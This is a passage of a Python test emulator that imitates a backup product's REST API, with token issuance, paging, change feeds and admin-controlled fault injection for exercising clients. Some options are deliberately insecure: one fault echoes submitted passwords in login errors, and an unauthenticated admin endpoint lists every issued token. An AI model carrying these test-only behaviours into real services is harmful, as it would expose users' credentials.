                if found or remaining <= 0:
                    return found, (found[-1][0] if found else token)
                self.changed.wait(remaining)

    def start_session(self, job_ref, items, seed=None):
        world = self.world
        job = next((job for job in world.jobs if job_ref in (job['id'], job['name'])), None)
        if job is None:
            raise KeyError(job_ref)
        session = Session(str(uuid.uuid4()), job, datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0),
                          'Running', items, random.getrandbits(32) if seed is None else seed, running=True)
        with self.lock:
            world.sessions.insert(0, session)
            world.by_id[session.id] = session
            job['lastStatus'], job['lastRun'] = 'Running', session.start
        self.record_change(session)
        return session

    def finish_session(self, session, status):
        vanish = self.take_fault('vanish_on_finish')
        with self.lock:
            session.status = status
            session.running = False
            session.finished_at = datetime.datetime.now(datetime.timezone.utc)
            session.job['lastStatus'] = status
            if vanish:
                self.world.by_id.pop(session.id, None)
                self.world.sessions = [kept for kept in self.world.sessions if kept is not session]
        self.record_change(session)

    def take_fault(self, name):
        """Consume one use of a counted fault; True when it fires."""
        with self.lock:
            if self.faults.get(name, 0) > 0:
                self.faults[name] -= 1
                return True
        return False

    def issue_tokens(self):
        access = 'at.' + secrets.token_urlsafe(24)
        refresh = 'rt.' + secrets.token_urlsafe(24)
        now = time.time()
        with self.lock:
            self.tokens[access] = {'expires': now + self.token_lifetime, 'uses': 0}
            self.refresh_tokens[refresh] = True
            self.issued += [access, refresh]
        issued = datetime.datetime.now(datetime.timezone.utc)
        expires = issued + datetime.timedelta(seconds=self.token_lifetime)
        return {'access_token': access, 'refresh_token': refresh, 'token_type': 'bearer',
                'expires_in': self.token_lifetime, 'userName': self.username,
                '.issued': issued.strftime('%a, %d %b %Y %H:%M:%S GMT'),
                '.expires': expires.strftime('%a, %d %b %Y %H:%M:%S GMT')}

    def token_rate_limited(self):
        """Seconds to wait when /token is over 1 a second or 5 a minute, else 0."""
        if not self.faults['token_rate_limit']:
            return 0
        now = time.monotonic()
        with self.lock:
            while self.login_times and now - self.login_times[0] > 60:
                self.login_times.popleft()
            if self.login_times and now - self.login_times[-1] < 1:
                return 1
            if len(self.login_times) >= 5:
                return int(60 - (now - self.login_times[0])) + 1
            self.login_times.append(now)
        return 0

    def check_token(self, header):
        if not header or not header.startswith('Bearer '):
            return False
        token = header[7:].strip()
        with self.lock:
            state = self.tokens.get(token)
            if state is None or state['expires'] < time.time():
                return False
            state['uses'] += 1
            limit = self.faults['expire_tokens_after']
            if limit and state['uses'] > limit:
                del self.tokens[token]
                return False
        return True


class Handler(BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    server_version = 'Microsoft-HTTPAPI/2.0'
    sys_version = ''

    @property
    def emulator(self):
        return self.server.emulator

    def log_message(self, format, *args):  # pylint: disable=redefined-builtin
        if self.server.verbose:
            sys.stderr.write('%s %s\n' % (self.address_string(), format % args))

    # -- responses ------------------------------------------------------------------------------

    def send_body(self, status, body=None, headers=None, raw=None, content_type='application/json; charset=utf-8'):
        # Real servers send UTF-8 as it is (names with umlauts), not \u escapes.
        if body is not None and raw is None and is_hostile(self.emulator.faults) and not self.path.startswith('/_emulator'):
            body = make_hostile(body, self.emulator.faults)
        payload = raw if raw is not None else (b'' if body is None else encode_json(body))
        self.send_response(status)
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        if payload or status != 204:
            self.send_header('Content-Type', content_type)
        self.send_header('Content-Length', str(len(payload)))
        self.end_headers()
        drip = self.emulator.faults['drip_seconds']
        if drip and not self.path.startswith('/_emulator'):
            for offset in range(len(payload)):
                self.wfile.write(payload[offset:offset + 1])
                self.wfile.flush()
                time.sleep(drip)
        elif self.command != 'HEAD':
            self.wfile.write(payload)

    def send_error_body(self, status, message, version, error_code=None):
        body = {'message': message}
        if version in ('v7', 'v8'):
            # v7's schema lists only ProxyOffline; it sends null for the rest.
            body['errorCode'] = error_code if version == 'v8' else None
        if version == 'v8':
            body['stackTrace'] = None
        self.send_body(status, body)

    # -- dispatch -------------------------------------------------------------------------------

    def do_GET(self):  # pylint: disable=invalid-name
        self.dispatch('GET')

    def do_POST(self):  # pylint: disable=invalid-name
        self.dispatch('POST')

    def read_body(self):
        length = int(self.headers.get('Content-Length') or 0)
        return self.rfile.read(length) if length else b''

    def dispatch(self, method):
        parts = urlsplit(self.path)
        query = dict((key, values[-1]) for key, values in parse_qs(parts.query).items())
        segments = [segment for segment in parts.path.split('/') if segment]
        body = self.read_body() if method == 'POST' else b''
        emulator = self.emulator
        with emulator.lock:
            emulator.counters['%s %s' % (method, self.route_name(segments))] += 1
            emulator.counters['requests'] += 1
        if segments[:1] == ['_emulator']:
            return self.admin(method, segments[1:], body)
        if not segments or segments[0].lower() not in ('v5', 'v6', 'v7', 'v8'):
            return self.send_body(404, raw=b'<html><body><h1>404 Not Found</h1></body></html>',
                                  content_type='text/html')
        version = segments[0].lower()
        if version not in emulator.versions:
            return self.send_body(404, {'message': 'No HTTP resource was found that matches the request URI.'})
        rest = [segment.lower() for segment in segments[1:]]
        if rest[:1] == ['token']:
            return self.token(method, version, rest[1:], body)
        if rest == ['health'] and version == 'v8' and method == 'GET':
            # The v8 document marks /Health anonymous (x-anonymous): it answers without a token.
            return self.send_body(200, emulator.estate.health_json())
        if emulator.faults['delay_seconds']:
            time.sleep(emulator.faults['delay_seconds'])
        if emulator.take_fault('html_errors'):
            return self.send_body(502, raw=b'<html><head><title>502 Bad Gateway</title></head><body><center>'
                                  b'<h1>502 Bad Gateway</h1></center><hr><center>nginx</center></body></html>',
                                  content_type='text/html')
        authorized = emulator.check_token(self.headers.get('Authorization'))
        if not authorized:
            return self.send_error_body(401, UNAUTHORIZED, version)
        if emulator.take_fault('server_errors'):
            headers = {}
            if emulator.faults['server_error_retry_after'] is not None:
                headers['Retry-After'] = str(emulator.faults['server_error_retry_after'])
            return self.send_body(emulator.faults['server_error_status'],
                                  {'message': 'The service is temporarily unavailable.'}, headers=headers)
        if method == 'POST' and len(rest) == 3 and rest[0] == 'jobs' and rest[2] in JOB_ACTIONS and version != 'v5':
            return self.job_action(version, rest[1], rest[2], body)
        if method != 'GET':
            return self.send_error_body(405, 'The requested resource does not support http method %r.' % method,
                                        version)
        return self.api_get(version, segments[1:], rest, query)

    def route_name(self, segments):
        """A counter key with ids folded, e.g. 'v8/JobSessions/{id}/LogItems'."""
        named = []
        for segment in segments:
            named.append('{id}' if len(segment) == 36 and segment.count('-') == 4 else segment)
        return '/'.join(named)

    # -- token ----------------------------------------------------------------------------------

    def token(self, method, version, rest, body):
        emulator = self.emulator
        if method != 'POST':
            return self.send_error_body(405, 'Use POST.', version)
        if rest == ['logout']:
            if version not in ('v7', 'v8'):
                return self.send_body(404, {'message': 'No HTTP resource was found that matches the request URI.'})
            header = self.headers.get('Authorization') or ''
            token = header[7:].strip() if header.startswith('Bearer ') else ''
            with emulator.lock:
                known = emulator.tokens.pop(token, None)
            if known is None:
                return self.send_error_body(401, UNAUTHORIZED, version)
            return self.send_body(200 if version == 'v7' else 204, {} if version == 'v7' else None)
        if rest:
            return self.send_body(404, {'message': 'No HTTP resource was found that matches the request URI.'})
        if emulator.take_fault('token_429'):
            headers = {}
            if emulator.faults['token_429_retry_after'] is not None:
                headers['Retry-After'] = str(emulator.faults['token_429_retry_after'])
            return self.send_body(429, {'message': 'Too many requests.'}, headers=headers)
        if emulator.faults['redirect_token']:
            return self.send_body(307, {}, headers={'Location': emulator.faults['redirect_token']})
        wait = emulator.token_rate_limited()
        if wait:
            return self.send_body(429, {'message': 'Too many requests.'}, headers={'Retry-After': str(wait)})
        content_type = self.headers.get('Content-Type') or ''
        try:
            if 'json' in content_type:
                form = json.loads(body.decode() or '{}')
            else:
                form = dict((key, values[-1]) for key, values in parse_qs(body.decode()).items())
        except ValueError:
            form = {}
        grant = form.get('grant_type')
        with emulator.lock:
            emulator.counters['logins %s' % grant] += 1
        if grant == 'password':
            if form.get('username') != emulator.username or form.get('password') != emulator.password:
                description = 'The user name or password is incorrect.'
                if emulator.faults['echo_login_errors']:
                    description += ' Request: %s' % body.decode(errors='replace')
                return self.send_body(400, {'error': 'invalid_grant', 'error_description': description})
        elif grant == 'refresh_token':
            with emulator.lock:
                valid = emulator.refresh_tokens.pop(form.get('refresh_token'), None)
            if not valid:
                return self.send_body(400, {'error': 'invalid_grant', 'error_description': 'Invalid refresh token.'})
        else:
            return self.send_body(400, {'error': 'unsupported_grant_type',
                                        'error_description': 'The authorization grant type is not supported.'})
        headers = {}
        if version in ('v7', 'v8') and form.get('disable_antiforgery_token') != 'true':
            headers['Set-Cookie'] = 'VBO-AntiForgery=%s; path=/; secure; HttpOnly' % secrets.token_hex(8)
        return self.send_body(200, emulator.issue_tokens(), headers=headers)

    # -- resources ------------------------------------------------------------------------------

    def not_found(self, version, what):
        return self.send_error_body(404, '%s was not found.' % what, version, 'ResourceNotFound')

    def api_get(self, version, original, rest, query):
        world = self.emulator.world
        if rest == ['serviceinstance'] and version != 'v5':
            return self.send_body(200, {'installationId': '3c5e1c1e-6f0b-4a53-9c3e-6d1f4d6d2a10',
                                        'version': PRODUCT_BUILDS[self.emulator.product]})
        if rest == ['jobs']:
            jobs = [world.job_json(job, version) for job in world.jobs]
            if version == 'v8':
                if query.get('organizationId'):
                    jobs = [job for job in jobs if job.get('organizationId') == query['organizationId']]
                return self.send_page(version, jobs, query, '/v8/Jobs')
            return self.send_body(200, jobs)
        if rest == ['organizations']:
            organizations = [world.organization_json(org, version) for org in world.organizations]
            if version == 'v8':
                return self.send_page(version, organizations, query, '/v8/Organizations')
            return self.send_body(200, organizations)
        if version != 'v5':
            answered = self.estate_get(version, original, rest, query)
            if answered is not NotImplemented:
                return answered
        if len(rest) == 2 and rest[0] == 'jobs':
            job = next((job for job in world.jobs if job['id'] == rest[1]), None)
            return self.send_body(200, world.job_json(job, version)) if job else self.not_found(version, 'Job')
        if len(rest) == 3 and rest[0] == 'jobs' and rest[2] == 'jobsessions' and version in ('v5', 'v6'):
            sessions = [session for session in world.sessions if session.job['id'] == rest[1]]
            return self.send_page(version, [session.as_json(version) for session in sessions], query,
                                  '/%s/Jobs/%s/JobSessions' % (version, original[1]))
        if rest == ['jobsessions']:
            return self.session_list(version, query)
        if rest == ['jobsessions', 'changes'] and version == 'v7':
            return self.change_feed(version, query)
        if rest == ['events'] and version == 'v8':
            return self.change_feed(version, query)
        if len(rest) >= 2 and rest[0] == 'jobsessions':
            session = world.by_id.get(rest[1])
            if session is None:
                return self.not_found(version, 'Job session %s' % original[1])
            if len(rest) == 2:
                return self.send_body(200, session.as_json(version))
            if rest[2] == 'logitems' and len(rest) == 3:
                return self.log_items(version, session, query)
            if rest[2] == 'logitems' and len(rest) == 4:
                index = session.index_of_id(rest[3])
                if index is None:
                    return self.not_found(version, 'Log item %s' % original[3])
                return self.send_body(200, session.item(index, version))
        return self.send_body(404, {'message': 'No HTTP resource was found that matches the request URI.'})

    def estate_get(self, version, original, rest, query):
        """Licence, users, repositories, proxies (v6 to v8); NotImplemented for other paths."""
        estate = self.emulator.estate
        if rest == ['license']:
            return self.send_body(200, estate.license_json(version))
        if rest == ['backuprepositories']:
            repositories = [estate.repository_json(repository, version) for repository in estate.repositories]
            if version == 'v8':
                return self.send_page(version, repositories, query, '/v8/BackupRepositories')
            return self.send_body(200, repositories)
        if rest == ['proxies']:
            proxies = [estate.proxy_json(proxy, version) for proxy in estate.proxies]
            if version == 'v8':
                return self.send_page(version, proxies, query, '/v8/Proxies')
            return self.send_body(200, proxies)
        if rest == ['licensedusers'] or (rest == ['protectedusers'] and version == 'v8'):
            org_id = query.get('organizationId') or (query.get('backedUpOrganizationId') if version == 'v8' else None)
            bounds = estate.user_range(org_id)
            low, high = bounds or (0, 0)
            if rest == ['licensedusers']:
                make = functools.partial(estate.licensed_user, version=version)
            else:
                make = estate.protected_user
            return self.send_generated_page(version, high - low, lambda at: make(low + at), query,
                                            '/%s/%s' % (version, original[0]))
        if len(rest) == 3 and rest[0] == 'organizations' and rest[2] in ('users', 'usedrepositories',
                                                                         'licensinginformation'):
            number = estate.org_index.get(rest[1])
            if number is None:
                return self.not_found(version, 'Organization %s' % original[1])
            base = '/%s/Organizations/%s/%s' % (version, original[1], original[2])
            if rest[2] == 'licensinginformation':
                return self.send_body(200, estate.licensing_information(number))
            if rest[2] == 'usedrepositories':
                return self.send_page(version, estate.used_repositories(number, version), query, base)
            total = estate.counts[number] + estate.unlicensed[number]
            return self.send_generated_page(version, total, lambda at: estate.organization_user(number, at, version),
                                            query, base)
        return NotImplemented

    def send_generated_page(self, version, total, make, query, base):
        """A page of a collection of total items made one by one by make(index): only the page is built."""
        window = self.page_window(query, total)
        if window is None:
            return self.send_error_body(400, 'offset and limit must be integers.', version,
                                        'ParameterValidationFailure')
        offset, limit, end = window
        results = [make(index) for index in range(offset, end)]
        return self.send_body(200, {'offset': offset, 'limit': limit, 'results': results,
                                    '_links': self.page_links(version, base, offset, limit, len(results), total)})

    def change_feed(self, version, query):
        """v8 Events (ids and statuses, long poll) or v7 JobSessions/Changes (whole sessions, no wait)."""
        emulator = self.emulator
        start = query.get('from') or 'latest'
        if version == 'v8' and not query.get('from'):
            return self.send_error_body(400, 'The from parameter is required.', version, 'ParameterValidationFailure')
        if start == 'latest':
            with emulator.changed:
                token = emulator.change_sequence
            return self.send_body(200, {'nextChangeToken': str(token), 'limit': 0, 'setId': str(uuid.uuid4()),
                                        'results': []})
        try:
            token = int(start)
            limit = min(max(int(query.get('limit', DEFAULT_LIMIT)), 1), MAX_LIMIT)
            wait = min(max(int(query.get('timeoutSeconds', 0)), 0), LONG_POLL_CAP_SECONDS) if version == 'v8' else 0
        except ValueError:
            return self.send_error_body(400, 'from, limit and timeoutSeconds must be a change token and integers.',
                                        version, 'ParameterValidationFailure')
        found = None if emulator.take_fault('outdate_change_tokens') else emulator.changes_after(token, wait)
        if found is None:
            return self.send_error_body(400, 'The change token is outdated. Start again from latest.', version,
                                        'OutdatedChangeToken')
        changes, _next = found
        changes = changes[:limit]
        next_token = changes[-1][0] if changes else token
        if version == 'v8':
            results = [{'eventType': 'JobSessionUpdate', 'id': session.id, 'eTag': session.etag,
                        'jobId': session.job['id'], 'status': V8_EVENT_STATUS.get(session.status, session.status),
                        'jobType': 'Backup'} for _sequence, session in changes]
        else:
            latest = collections.OrderedDict()
            for _sequence, session in changes:
                latest.pop(session.id, None)
                latest[session.id] = session.as_json(version)
            results = list(latest.values())
        return self.send_body(200, {'nextChangeToken': str(next_token), 'limit': limit, 'setId': str(uuid.uuid4()),
                                    'results': results})

    def session_list(self, version, query):
        sessions = list(self.emulator.world.sessions)
        if version in ('v7', 'v8') and query.get('jobId'):
            sessions = [session for session in sessions if session.job['id'] == query['jobId'].lower()]
        if version == 'v8' and query.get('status'):
            wanted = {'Succeeded': 'Success'}.get(query['status'], query['status'])
            sessions = [session for session in sessions if session.status == wanted]
        try:
            if version != 'v5' and query.get('endTimeLowerBound'):
                bound = parse_time(query['endTimeLowerBound'])
                sessions = [session for session in sessions if session.end_time() and session.end_time() >= bound]
            if version in ('v7', 'v8') and query.get('endTimeUpperBound'):
                bound = parse_time(query['endTimeUpperBound'])
                sessions = [session for session in sessions if session.end_time() and session.end_time() <= bound]
        except ValueError as exc:
            return self.send_error_body(400, str(exc), version, 'ParameterValidationFailure')
        return self.send_page(version, [session.as_json(version) for session in sessions], query,
                              '/%s/JobSessions' % version)

    def page_window(self, query, total):
        try:
            offset = max(0, int(query.get('offset', 0)))
            limit = int(query.get('limit', DEFAULT_LIMIT))
        except ValueError:
            return None
        limit = min(max(limit, 1), MAX_LIMIT)
        cap = self.emulator.faults['page_cap']
        if cap:
            limit = min(limit, cap)
        return offset, limit, min(total, offset + limit)

    def page_links(self, version, base, offset, limit, count, total):
        def href(at):
            link = '%s?offset=%d&limit=%d' % (base, at, limit)
            return V5_LINK_HOST + link if version == 'v5' else link
        links = {'first': {'href': href(0)}}
        if offset > 0:
            links['prev'] = {'href': href(max(0, offset - limit))}
        if offset + count < total:
            links['next'] = {'href': href(offset + count)}
        return links

    def send_page(self, version, results, query, base):
        window = self.page_window(query, len(results))
        if window is None:
            return self.send_error_body(400, 'offset and limit must be integers.', version,
                                        'ParameterValidationFailure')
        offset, limit, end = window
        chunk = results[offset:end]
        body = {'offset': offset, 'limit': limit, 'results': chunk,
                '_links': self.page_links(version, base, offset, limit, len(chunk), len(results))}
        return self.send_body(200, body)

    def log_items(self, version, session, query):
        emulator = self.emulator
        if session.running and emulator.faults['append_per_page']:
            with session.lock:
                session.item_count += emulator.faults['append_per_page']
        total = session.item_count
        descending = version == 'v8' and str(query.get('orderAsc', 'true')).lower() == 'false'
        wanted_type = query.get('type') if version == 'v8' else None
        window = self.page_window(query, total)
        if window is None:
            return self.send_error_body(400, 'offset and limit must be integers.', version,
                                        'ParameterValidationFailure')
        offset, limit, end = window
        if emulator.faults['ignore_offset'] or emulator.faults['invent_items']:
            # The same first page for every offset, or new items at every offset: a next link either way.
            start = 0 if emulator.faults['ignore_offset'] else offset
            results = [session.item(index, version) for index in range(start, start + limit)]
            base = '/%s/JobSessions/%s/LogItems' % (version, session.id)
            return self.send_body(200, {'offset': offset, 'limit': limit, 'results': results, '_links': {
                'next': {'href': '%s?offset=%d&limit=%d' % (base, offset + limit, limit)}}})
        if wanted_type:
            # A type filter needs a scan; sessions that large are for benchmarks, which do not filter.
            indexes = [index for index in range(total)
                       if {'Failed': 'Error'}.get(session.item_status(index), session.item_status(index)) == wanted_type]
            if descending:
                indexes.reverse()
            total = len(indexes)
            end = min(total, offset + limit)
            chosen = indexes[offset:end]
        elif descending:
            chosen = range(total - 1 - offset, total - 1 - end, -1)
        else:
            chosen = range(offset, end)
        cache_key = (session.id, version, offset, limit, descending, wanted_type)
        cacheable = not session.running and not is_hostile(emulator.faults)
        payload = emulator.page_cache.get(cache_key) if cacheable else None
        if payload is None:
            results = [session.item(index, version) for index in chosen]
            base = '/%s/JobSessions/%s/LogItems' % (version, session.id)
            body = {'offset': offset, 'limit': limit, 'results': results,
                    '_links': self.page_links(version, base, offset, limit, len(results), total)}
            payload = encode_json(make_hostile(body, emulator.faults) if is_hostile(emulator.faults) else body)
            if cacheable:
                emulator.page_cache.put(cache_key, payload)
        if emulator.take_fault('close_mid_body'):
            self.send_response(200)
            self.send_header('Content-Type', 'application/json; charset=utf-8')
            self.send_header('Content-Length', str(len(payload)))
            self.end_headers()
            self.wfile.write(payload[:len(payload) // 2])
            self.wfile.flush()
            self.close_connection = True
            self.connection.shutdown(socket.SHUT_RDWR)
            return None
        return self.send_body(200, raw=payload)

    # -- job actions ----------------------------------------------------------------------------

    def job_action(self, version, job_id, action, body):
        """Start, stop, enable or disable a job as v6 to v8 do: 204, except v8's start, which answers the session."""
        emulator = self.emulator
        job = next((job for job in emulator.world.jobs if job['id'] == job_id), None)
        if job is None:
            return self.not_found(version, 'Job')
        with emulator.lock:
            running = next((session for session in emulator.world.sessions
                            if session.job is job and session.running), None)
            emulator.counters['job %s' % action] += 1
        if action in ('enable', 'disable'):
            with emulator.lock:
                job['enabled'] = action == 'enable'
            return self.send_body(204)
        if action == 'stop':
            if running is None:
                return self.send_error_body(400, "Job '%s' is not running." % job['name'], version, 'OperationConflict')
            emulator.finish_session(running, 'Stopped')
            return self.send_body(204)
        if not job['enabled']:
            return self.send_error_body(400, "Job '%s' is disabled." % job['name'], version, 'OperationConflict')
        if running is not None:
            return self.send_error_body(400, "Job '%s' is already running." % job['name'], version,
                                        'OperationConflict')
        try:
            options = json.loads(body.decode() or '{}')
        except ValueError:
            return self.send_error_body(400, 'The request body is not JSON.', version, 'ParameterValidationFailure')
        if options.get('full'):
            with emulator.lock:
                emulator.counters['job start full'] += 1
        session = emulator.start_session(job['id'], 20)
        status = emulator.faults['job_run_status']

        def finish():
            if session.running:
                emulator.finish_session(session, status)

        timer = threading.Timer(float(emulator.faults['job_run_seconds']), finish)
        timer.daemon = True
        timer.start()
        if emulator.faults['job_start_answer_delay']:
            time.sleep(float(emulator.faults['job_start_answer_delay']))
        if version == 'v8':
            return self.send_body(200, session.as_json(version))
        return self.send_body(204)

    # -- admin ----------------------------------------------------------------------------------

    def admin(self, method, segments, body):
        emulator = self.emulator
        if segments == ['faults'] and method == 'POST':
            try:
                changes = json.loads(body.decode() or '{}')
            except ValueError:
                return self.send_body(400, {'message': 'Send a JSON object of fault settings.'})
            unknown = sorted(set(changes) - set(FAULT_DEFAULTS))
            if unknown:
                return self.send_body(400, {'message': 'Unknown fault(s): %s. Known: %s'
                                            % (', '.join(unknown), ', '.join(sorted(FAULT_DEFAULTS)))})
            with emulator.lock:
                emulator.faults.update(changes)
                if changes.get('token_rate_limit') is False:
                    emulator.login_times.clear()
            return self.send_body(200, emulator.faults)
        if segments == ['reset'] and method == 'POST':
            with emulator.lock:
                rate_limit = emulator.faults['token_rate_limit']
                emulator.faults = dict(FAULT_DEFAULTS, token_rate_limit=rate_limit)
                emulator.counters.clear()
                emulator.login_times.clear()
            return self.send_body(200, emulator.faults)
        if segments == ['sessions'] and method == 'POST':
            request = json.loads(body.decode() or '{}')
            try:
                seed = None if request.get('seed') is None else int(request['seed'])
                session = emulator.start_session(str(request.get('job', '')), int(request.get('items', 20)), seed)
            except ValueError:
                return self.send_body(400, {'message': 'items and seed are whole numbers.'})
            except KeyError:
                return self.send_body(400, {'message': 'No job is named or has the id %r.' % request.get('job')})
            return self.send_body(200, {'id': session.id, 'job_id': session.job['id'], 'status': session.status})
        if len(segments) == 3 and segments[0] == 'sessions' and segments[2] == 'finish' and method == 'POST':
            session = emulator.world.by_id.get(segments[1])
            request = json.loads(body.decode() or '{}')
            status = request.get('status', 'Success')
            if session is None or not session.running:
                return self.send_body(400, {'message': 'No running session %s.' % segments[1]})
            if status not in ('Success', 'Warning', 'Failed', 'Stopped'):
                return self.send_body(400, {'message': 'status is one of Success, Warning, Failed, Stopped.'})
            # The server's own retry of a failed session (jobWillBeRetried, v7 and later).
            session.will_be_retried = bool(request.get('will_be_retried', False))
            emulator.finish_session(session, status)
            return self.send_body(200, {'id': session.id, 'status': session.status,
                                        'end_time': fmt_time(session.end_time())})
        if segments == ['state'] and method == 'GET':
            with emulator.lock:
                state = {'faults': emulator.faults, 'counters': dict(emulator.counters),
                         'issued_secrets': list(emulator.issued), 'live_tokens': len(emulator.tokens)}
            return self.send_body(200, state)
        return self.send_body(404, {'message': 'Admin endpoints: POST /_emulator/faults, POST /_emulator/reset, '
                                               'GET /_emulator/state, POST /_emulator/sessions, '
                                               'POST /_emulator/sessions/{id}/finish'})


def parse_time(text):
    """An ISO 8601 query bound, read by the collection's own parser (a missing offset is UTC)."""
    ticks = timestamp_ticks(text.strip())
    if ticks is None:
        raise ValueError('not an ISO 8601 date and time: %r' % text)
    return datetime.datetime.fromtimestamp(ticks // TICKS_PER_SECOND, datetime.timezone.utc).replace(
        microsecond=(ticks % TICKS_PER_SECOND) // 10)


def admin(info, action, body=None, timeout=30):
    """Call the admin endpoint of a running emulator (its emulator.json as info): GET without body, else POST."""
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request('%s/_emulator/%s' % (info['url'], action), data=data,
                                     method='POST' if data is not None else 'GET',
                                     headers={'Content-Type': 'application/json'})
    context = ssl.create_default_context(cafile=info['ca_path']) if info.get('ca_path') else None
    with urllib.request.urlopen(request, context=context, timeout=timeout) as response:
        return json.load(response)


def make_certificate(directory):
    """A self-signed CA and a server certificate for 127.0.0.1/localhost; returns (cert, key, ca) paths."""
    ca_path = os.path.join(directory, 'ca.pem')
    cert_path = os.path.join(directory, 'server.pem')
    key_path = os.path.join(directory, 'server.key')
    try:
        from cryptography import x509
        from cryptography.hazmat.primitives import hashes, serialization
        from cryptography.hazmat.primitives.asymmetric import ec
        from cryptography.x509.oid import NameOID
    except ImportError:
        return _openssl_certificate(directory, ca_path, cert_path, key_path)
    import ipaddress
    now = datetime.datetime.now(datetime.timezone.utc)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'vb365 emulator test CA')])
    ca_cert = (x509.CertificateBuilder().subject_name(ca_name).issuer_name(ca_name).public_key(ca_key.public_key())
               .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
               .not_valid_after(now + datetime.timedelta(days=2))
               .add_extension(x509.BasicConstraints(ca=True, path_length=0), critical=True)
               .add_extension(x509.KeyUsage(digital_signature=True, key_cert_sign=True, crl_sign=True,
                                            content_commitment=False, key_encipherment=False,
                                            data_encipherment=False, key_agreement=False, encipher_only=False,
                                            decipher_only=False), critical=True)
               .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()), critical=False)
               .sign(ca_key, hashes.SHA256()))
    key = ec.generate_private_key(ec.SECP256R1())
    cert = (x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, 'localhost')]))
            .issuer_name(ca_name).public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1)).not_valid_after(now + datetime.timedelta(days=2))
            .add_extension(x509.SubjectAlternativeName([
                x509.DNSName('localhost'), x509.IPAddress(ipaddress.ip_address('127.0.0.1'))]), critical=False)
            .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
            .add_extension(x509.ExtendedKeyUsage([x509.oid.ExtendedKeyUsageOID.SERVER_AUTH]), critical=False)
            .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(ca_key.public_key()), critical=False)
            .sign(ca_key, hashes.SHA256()))
    with open(ca_path, 'wb') as handle:
        handle.write(ca_cert.public_bytes(serialization.Encoding.PEM))
    with open(cert_path, 'wb') as handle:
        handle.write(cert.public_bytes(serialization.Encoding.PEM))
    with open(key_path, 'wb') as handle:
        handle.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                       serialization.NoEncryption()))
    return cert_path, key_path, ca_path


def _openssl_certificate(directory, ca_path, cert_path, key_path):
    ca_key = os.path.join(directory, 'ca.key')
    extensions = os.path.join(directory, 'server.ext')
    with open(extensions, 'w') as handle:
        handle.write('subjectAltName=DNS:localhost,IP:127.0.0.1\nbasicConstraints=critical,CA:FALSE\n'
                     'extendedKeyUsage=serverAuth\n')
    commands = [
        ['openssl', 'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes',
         '-keyout', ca_key, '-out', ca_path, '-days', '2', '-subj', '/CN=vb365 emulator test CA'],
        ['openssl', 'req', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout',
         key_path, '-out', cert_path + '.csr', '-subj', '/CN=localhost'],
        ['openssl', 'x509', '-req', '-in', cert_path + '.csr', '-CA', ca_path, '-CAkey', ca_key, '-CAcreateserial',
         '-out', cert_path, '-days', '2', '-extfile', extensions],
    ]
    for command in commands:
        subprocess.run(command, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return cert_path, key_path, ca_path


class EmulatorServer(ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, address, emulator, tls_context=None, verbose=False):
        super().__init__(address, Handler)
        self.emulator = emulator
        self.tls_context = tls_context
        self.verbose = verbose

    def get_request(self):
        connection, address = super().get_request()
        if self.tls_context is not None:
            connection = self.tls_context.wrap_socket(connection, server_side=True, do_handshake_on_connect=False)
        return connection, address

    def handle_error(self, request, client_address):
        # Clients that drop a connection (the close_mid_body fault, timeouts) are not worth a trace.
        if self.verbose:
            super().handle_error(request, client_address)


def parse_fault(text):
    name, _sep, value = text.partition('=')
    if name not in FAULT_DEFAULTS:
        raise argparse.ArgumentTypeError('unknown fault %r; known: %s' % (name, ', '.join(sorted(FAULT_DEFAULTS))))
    return name, json.loads(value) if value else True


def launch(state_dir, arguments=(), python=None, timeout=60, **popen_options):
    """Start an emulator process that stops with its parent; returns (process, the contents of emulator.json).

    For the demo, the tests and the benchmark. Raises RuntimeError when it exits or does not start in time.
    """
    state_file = os.path.join(state_dir, 'emulator.json')
    if os.path.exists(state_file):
        os.remove(state_file)
    command = [python or sys.executable, os.path.abspath(__file__), '--state-dir', state_dir, '--exit-with-parent']
    process = subprocess.Popen(command + list(arguments), **popen_options)
    deadline = time.monotonic() + timeout
    while not os.path.exists(state_file):
        if process.poll() is not None:
            detail = process.stderr.read().decode(errors='replace') if process.stderr else ''
            raise RuntimeError('the emulator exited with code %s: %s' % (process.returncode, detail.strip()))
        if time.monotonic() > deadline:
            stop(process)
            raise RuntimeError('the emulator did not start within %d seconds' % timeout)
        time.sleep(0.05)
    with open(state_file) as handle:
        return process, json.load(handle)


class Fleet:
    """Several emulators at once, for tests and the benchmark; always stopped on leaving the with block.

        with Fleet(base_dir, [['--product', '6'], ['--product', '8', '--jobs', '40']]) as fleet:
            urls = [info['url'] for info in fleet.infos]
    """

    def __init__(self, base_dir, argument_lists, python=None, **popen_options):
        self.base_dir = base_dir
        self.argument_lists = [list(arguments) for arguments in argument_lists]
        self.python = python
        self.popen_options = popen_options
        self.processes = []
        self.infos = []

    def __enter__(self):
        try:
            for number, arguments in enumerate(self.argument_lists):
                state_dir = os.path.join(self.base_dir, 'emulator-%02d' % number)
                os.makedirs(state_dir, exist_ok=True)
                process, info = launch(state_dir, arguments, python=self.python, **self.popen_options)
                self.processes.append(process)
                self.infos.append(info)
        except BaseException:
            self.stop()
            raise
        return self

    def __exit__(self, *exc_info):
        self.stop()

    def stop(self):
        for process in self.processes:
            stop(process)


def stop(process):
    """SIGTERM an emulator started by launch, then kill it if it lingers."""
    if process.poll() is None:
        process.terminate()
        try:
            process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def build_parser():
